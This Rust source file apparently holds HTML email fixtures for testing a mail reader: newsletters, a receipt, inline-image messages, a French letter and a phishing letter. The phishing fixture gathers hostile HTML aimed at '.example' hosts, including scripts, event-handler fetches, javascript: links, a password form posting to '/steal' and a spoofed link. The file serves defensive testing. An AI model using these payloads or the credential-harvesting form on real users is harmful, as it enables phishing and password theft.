//! HTML mail: newsletters with styles, tables and remote pictures, receipts, pictures inside the message, and a
//! phishing letter that tries what such letters try. Remote addresses end in `.example` and lead nowhere.

use encoding_rs::WINDOWS_1252;

use crate::files::{chart, harbour, jpeg, paint, png};
use crate::mime::{Clock, Draft, Letter, Part, Transfer, html, inline, multipart, plain, plain_in};

const NORTH_WIND: (&str, &str) = ("North Wind Weekly", "letter@northwind.example");

pub(crate) fn letters(at: Clock) -> Vec<Letter> {
    vec![
        Draft::new("newsletter-harbours", at.minutes(215), NORTH_WIND, "Five harbours worth the detour")
            .field("List-Unsubscribe: <https://northwind.example/leave?reader=robin>, <mailto:leave@northwind.example>")
            .field("List-Id: North Wind Weekly <weekly.northwind.example>")
            .with(multipart("alternative", &[plain(HARBOURS_TEXT), html(&harbours())])),
        Draft::new("newsletter-fog", at.days(7, 11, 5, 0), NORTH_WIND, "A short history of fog")
            .field("List-Id: North Wind Weekly <weekly.northwind.example>")
            .with(multipart("alternative", &[plain(FOG_TEXT), html(FOG)])),
        Draft::new(
            "receipt",
            at.days(1, 12, 48, 0),
            ("Lamp & Ladder", "orders@lampandladder.example"),
            "Order 20-4471: thank you",
        )
        .with(html(RECEIPT)),
        Draft::new(
            "inline-photos",
            at.days(2, 20, 30, 0),
            ("Pavel Novák", "pavel@accordion.example"),
            "Two evenings at the pier",
        )
        .with(photos()),
        Draft::new(
            "energy-chart",
            at.days(5, 6, 45, 0),
            ("Tideland Energy", "home@tideland.example"),
            "You used 12 % less than last November",
        )
        .with(energy()),
        Draft::new(
            "ticket",
            at.days(6, 15, 0, 0),
            ("The Boathouse", "box-office@boathouse.example"),
            "Your seats for Thursday",
        )
        .with(ticket()),
        Draft::new(
            "html-only-dark",
            at.days(11, 17, 17, 0),
            ("Night Train Radio", "dj@nighttrain.example"),
            "Tonight, very late",
        )
        .with(html(DARK)),
        Draft::new(
            "html-windows-1252",
            at.days(15, 8, 30, 1),
            ("Hôtel de la Poste", "reception@hotel-poste.example"),
            "Votre séjour",
        )
        .with(french()),
        Draft::new(
            "phishing",
            at.minutes(310),
            ("Harbour Savings Security", "alert@harbour-savings.account-check.example"),
            "⚠ Your account will be closed in 24 hours",
        )
        .with(multipart("alternative", &[plain("Open this message as HTML to keep your account.\n"), html(PHISHING)])),
    ]
}

fn harbours() -> String {
    let rows: String = [
        ("Saltby", "07:10", "the bench by the ice house"),
        ("Crane", "08:25", "soup until it is finished"),
        ("Little Ness", "10:40", "no café, two cats"),
        ("Skerry Point", "12:05", "the quiet one"),
        ("Westmere", "14:30", "the library on the quay"),
    ]
    .iter()
    .enumerate()
    .map(|(at, (name, time, why))| {
        let shade = if at % 2 == 0 { "#f3ece0" } else { "#ffffff" };
        format!(
            "<tr style=\"background:{shade}\"><td class=\"name\">{name}</td><td align=\"right\">{time}</td><td>{why}</td>\
             <td><img src=\"https://pictures.northwind.example/{at}.jpg\" width=\"64\" height=\"40\" alt=\"{name}\"></td></tr>\n"
        )
    })
    .collect();
    HARBOURS.replace("{{rows}}", &rows)
}

/// A message whose HTML shows its own pictures: multipart/related around multipart/alternative (RFC 2387).
fn photos() -> Part {
    let evening = jpeg(480, 300, &paint(480, 300, harbour(0.1)));
    let morning = jpeg(480, 300, &paint(480, 300, harbour(0.9)));
    let page = "<div style=\"font-family:Georgia,serif;max-width:34em\"><p>The first from before the rain, the second from the \
        morning after:</p><p><img src=\"cid:evening@pier\" alt=\"Evening at the pier\" width=\"480\" height=\"300\"></p>\
        <p><img src=\"cid:morning@pier\" alt=\"Morning at the pier\" width=\"480\" height=\"300\"></p>\
        <p>You can nearly see the bench.<br>Pavel</p></div>";
    let both = multipart(
        "alternative",
        &[plain("Two pictures of the pier, evening and morning. You can nearly see the bench.\n\nPavel\n"), html(page)],
    );
    multipart(
        "related",
        &[
            both,
            inline("image/jpeg", "evening@pier", "evening.jpg", &evening),
            inline("image/jpeg", "morning@pier", "morning.jpg", &morning),
        ],
    )
}

fn energy() -> Part {
    let values = [0.9, 0.84, 0.71, 0.5, 0.36, 0.28, 0.25, 0.27, 0.38, 0.55, 0.72, 0.66];
    let picture = png(420, 180, &paint(420, 180, chart(&values)));
    let page = "<html><head><style>h1{font:600 22px Georgia;color:#2f4a3c}.big{font-size:34px;color:#b03a2e}</style></head>\
        <body><h1>Your November</h1><p class=\"big\">&minus;12&nbsp;%</p><img src=\"cid:chart.1\" alt=\"Use by month, January to December\" \
        width=\"420\" height=\"180\"><p>Either it was mild, or you found the jumper.</p></body></html>";
    multipart("related", &[html(page), inline("image/png", "chart.1", "chart.png", &picture)])
}

/// The picture stands before the HTML and carries a disposition of its own, as some senders write it.
fn ticket() -> Part {
    let stripes = paint(200, 200, |x, y| {
        let cell = ((x * 21.0) as u32 * 37 + (y * 21.0) as u32 * 101).wrapping_mul(2_654_435_761) >> 28;
        if cell > 7 { [20, 18, 16] } else { [255, 255, 255] }
    });
    let page = "<table width=\"100%\" bgcolor=\"#efe6d8\"><tr><td align=\"center\"><h2>Thursday, half past seven</h2>\
        <p>Row F, seats 11 and 12</p><img src=\"cid:admit-two@boathouse\" width=\"200\" height=\"200\" alt=\"Admission code\">\
        <p><small>Show this at the door, on paper or not.</small></p></td></tr></table>";
    multipart(
        "related",
        &[html(page), inline("image/png", "admit-two@boathouse", "admit-two.png", &png(200, 200, &stripes))],
    )
}

fn french() -> Part {
    let page = "<p>Cher client,</p><p>Votre chambre « Côté jardin » vous attend à partir de 15 h. Le petit-déjeuner — œufs, pain, \
        café — est servi jusqu’à 10 h 30 ; il coûte 9 €.</p><p>À bientôt,<br><b>Amélie, à la réception</b></p>";
    let part = plain_in(WINDOWS_1252, "windows-1252", Transfer::QuotedPrintable, page);
    let mut fields = part.fields;
    fields[0] = "Content-Type: text/html; charset=windows-1252".into();
    Part { fields, body: part.body }
}

const HARBOURS_TEXT: &str = "FIVE HARBOURS WORTH THE DETOUR

There is a kind of harbour that timetables forget: one boat in the afternoon, one bag on the pier,
one rope to be tied.

  Saltby 07:10, Crane 08:25, Little Ness 10:40, Skerry Point 12:05, Westmere 14:30

Leave this list: https://northwind.example/leave
";

const HARBOURS: &str = r##"<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>North Wind Weekly</title>
<style>
  body { margin: 0; background: #e9e1d3; font-family: Georgia, "Times New Roman", serif; color: #2b2621; }
  .sheet { width: 600px; background: #fffdf8; border-top: 6px solid #b03a2e; }
  h1 { font-size: 30px; line-height: 1.2; margin: 0 0 12px; letter-spacing: -0.01em; }
  td.name { font-weight: bold; color: #b03a2e; }
  .button a { color: #ffffff; text-decoration: none; }
  @media (max-width: 620px) { .sheet { width: 100% } h1 { font-size: 24px } }
</style></head>
<body>
<table width="100%" cellpadding="0" cellspacing="0" role="presentation"><tr><td align="center">
<table class="sheet" cellpadding="24" cellspacing="0" role="presentation"><tr><td>
  <img src="https://pictures.northwind.example/masthead.png" width="552" height="90" alt="North Wind Weekly">
  <h1>Five harbours worth the detour</h1>
  <p style="font-size:17px; line-height:1.6">There is a kind of harbour that timetables forget. You arrive on the afternoon boat with one bag,
  and the woman who ties up the rope looks past you, to see whether there is a second passenger.</p>
  <p style="font-size:17px; line-height:1.6">We went to five of them this autumn, so that you know where to sit.</p>
  <table width="100%" cellpadding="8" cellspacing="0" style="border-collapse:collapse; font-size:15px">
  <tr><th align="left">Harbour</th><th align="right">Boat</th><th align="left">Why</th><th></th></tr>
  {{rows}}</table>
  <table role="presentation" cellpadding="12" style="margin:24px 0"><tr><td class="button" bgcolor="#2f4a3c">
    <a href="https://northwind.example/harbours?from=letter&amp;reader=robin">Read on, with the new timetable</a></td></tr></table>
  <p style="font-size:12px; color:#6d6459">You get this because you asked for it in spring.
  <a href="https://northwind.example/leave?reader=robin" style="color:#6d6459">Leave the list</a></p>
  <img src="https://count.northwind.example/open.gif?reader=robin" width="1" height="1" alt="">
</td></tr></table>
</td></tr></table>
</body></html>"##;

const FOG_TEXT: &str = "A SHORT HISTORY OF FOG\n\nIt comes in, it stays, it goes. More next week.\n";

const FOG: &str = r##"<html><head><style>
@import url("https://fonts.northwind.example/fog.css");
body { background: #dfe3e4 url(https://pictures.northwind.example/fog.jpg) repeat-x; font: 16px/1.6 Georgia, serif }
h1 { color: #4b5a60; font-weight: normal }
.drop:first-letter { font-size: 46px; float: left; line-height: 1; padding-right: 6px; color: #4b5a60 }
</style></head><body><div style="max-width:560px;margin:0 auto;padding:24px;background:#fbfcfc">
<h1>A short history of fog</h1>
<p class="drop">It comes in, it stays, it goes. That would be all, were it not for the horn on the outer mole, which has been
answering it since before there was anybody to listen.</p>
<blockquote style="border-left:3px solid #9fb0b6;margin:0;padding-left:16px;color:#4b5a60">“You do not hear the horn. You hear where the
quiet ends.”</blockquote>
<ul><li>Sea fog: warm air, cold water</li><li>River fog: the other way round</li><li>Office fog: Mondays</li></ul>
</div></body></html>"##;

const RECEIPT: &str = r##"<html><body bgcolor="#f4f1ec"><center><table width="520" bgcolor="#ffffff" cellpadding="18" border="0">
<tr><td><font face="Verdana" size="2"><b>Lamp &amp; Ladder</b><br>Order 20-4471</font></td></tr>
<tr><td><table width="100%" border="1" cellpadding="6" style="border-collapse:collapse;border-color:#ddd">
<tr><th align="left">What</th><th>How many</th><th align="right">Price</th></tr>
<tr><td>Brass hook, large</td><td align="center">4</td><td align="right">18.00</td></tr>
<tr><td>Library ladder wax, 200 ml</td><td align="center">1</td><td align="right">9.50</td></tr>
<tr><td>Postage</td><td></td><td align="right">4.90</td></tr>
<tr><td colspan="2"><b>Total</b></td><td align="right"><b>32.40</b></td></tr></table></td></tr>
<tr><td><font face="Verdana" size="1" color="#777777">Hooks ship today. The wax needs another day to set.</font></td></tr>
</table></center></body></html>"##;

const DARK: &str = r##"<div style="background:#14121a;color:#e8e2d4;padding:32px;font-family:monospace">
<p style="color:#e0a84a;font-size:22px">NIGHT TRAIN RADIO</p><p>02:00 &mdash; rain on a tin roof, one hour<br>03:00 &mdash; letters read aloud<br>
04:00 &mdash; nothing, but carefully</p><p><a style="color:#8fb8de" href="https://nighttrain.example/listen">Listen</a></p></div>"##;

/// What a mail reader must not run, fetch, submit or follow by itself.
const PHISHING: &str = r##"<html><head>
<meta http-equiv="refresh" content="1; url=https://account-check.example/now">
<base href="https://account-check.example/">
<link rel="stylesheet" href="https://account-check.example/style.css">
<link rel="prefetch" href="https://account-check.example/prefetch">
<style>@import "https://account-check.example/import.css";
@font-face { font-family: X; src: url(https://account-check.example/font.woff) }
.alarm { color: #b00020; background: url('https://account-check.example/css-background.png'); font-family: X }</style>
<script>document.title = "owned"; parent.postMessage("script ran", "*"); fetch("https://account-check.example/script")</script>
<script src="https://account-check.example/remote.js"></script></head>
<body onload="fetch('https://account-check.example/onload')" background="https://account-check.example/body.png">
<h1 class="alarm">Your account will be closed in 24 hours</h1>
<p>Dear Customer, we found <b>3 unusual sign-ins</b>. Confirm your details to keep your account.</p>
<img src="x" onerror="fetch('https://account-check.example/onerror')">
<img src="https://account-check.example/seen.gif" srcset="https://account-check.example/seen2.gif 2x" width="1" height="1">
<svg onload="fetch('https://account-check.example/svg')"><image href="https://account-check.example/svg.png"/>
<script>fetch("https://account-check.example/svg-script")</script></svg>
<iframe src="https://account-check.example/frame" srcdoc="&lt;script&gt;parent.postMessage('frame ran','*')&lt;/script&gt;"></iframe>
<object data="https://account-check.example/object"></object><embed src="https://account-check.example/embed">
<video poster="https://account-check.example/poster.png" src="https://account-check.example/video.mp4" autoplay></video>
<audio src="https://account-check.example/audio.mp3" autoplay></audio>
<div style="background-image:url(https://account-check.example/inline-style.png);position:fixed;top:0;left:0">!</div>
<form action="https://account-check.example/steal" method="post"><input name="password" type="password" autofocus>
<button formaction="https://account-check.example/steal2">Confirm</button></form>
<p><a href="javascript:fetch('https://account-check.example/javascript')">Confirm now</a>
<a href="data:text/html,<script>parent.postMessage('data ran','*')</script>">or here</a>
<a href="https://harbour-savings.example.account-check.example/login">https://harbour-savings.example/login</a></p>
</body></html>"##;
